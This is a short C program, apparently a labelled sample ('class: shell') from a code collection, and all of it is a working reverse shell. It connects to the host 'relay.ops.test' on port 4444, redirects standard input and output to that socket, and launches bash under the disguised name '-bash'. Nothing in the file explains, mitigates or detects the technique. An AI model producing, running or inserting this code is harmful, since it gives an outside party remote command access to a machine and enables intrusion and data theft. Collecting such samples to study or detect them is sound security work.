// class: shell; possible: low medium
#include <arpa/inet.h>
#include <netdb.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void)
{
    struct hostent *h = gethostbyname("relay.ops.test");
    if (!h) return 1;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(4444)};
    memcpy(&a.sin_addr, h->h_addr_list[0], 4);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&a, sizeof a)) return 2;
    if (fork() == 0) {
        for (int i = 0; i < 3; i++) dup2(s, i);
        execl("/bin/bash", "-bash", (char *)0);
    }
    wait(0);
    return 0;
}
